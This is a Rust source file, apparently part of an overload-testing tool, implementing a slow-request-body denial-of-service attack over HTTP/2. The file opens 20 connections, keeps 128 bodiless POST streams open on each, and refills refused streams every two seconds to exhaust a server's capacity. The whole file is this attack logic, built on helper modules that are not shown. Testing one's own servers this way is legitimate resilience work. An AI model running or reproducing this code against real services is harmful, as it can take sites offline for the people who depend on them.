//! The same over HTTP/2, which needs a few connections only: each holds as many requests as it may.

use std::time::Duration;

use async_trait::async_trait;
use tokio::io::AsyncWriteExt as _;
use tokio::time::timeout;

use crate::overload::attack::{Attack, Attackers, PAUSE, drain};
use crate::overload::frames::{post, preface, stream as id};

const CONNECTIONS: usize = 20;
/// At a time, on each of them.
const REQUESTS: u32 = 128;
/// Until as many are sent again, in place of those that were refused.
const AGAIN: Duration = Duration::from_secs(2);

pub(crate) struct SlowBodiesH2;

#[async_trait]
impl Attack for SlowBodiesH2 {
    async fn run(&self, by: Attackers) {
        let begun = async |by: Attackers, number| {
            let mut stream = by.connect(number).await?;
            stream.write_all(&preface(None)).await?;
            for round in 0.. {
                let numbers = REQUESTS * round..REQUESTS * (round + 1);
                let requests = numbers.flat_map(|n| post(id(n), &by.target.authority, &by.target.token));
                stream.write_all(&requests.collect::<Vec<u8>>()).await?;
                by.sent(REQUESTS.into());
                if let Ok(ended) = timeout(AGAIN, drain(&mut stream)).await {
                    return ended;
                }
            }
            Ok(())
        };
        by.many(CONNECTIONS, PAUSE, begun).await;
    }
}
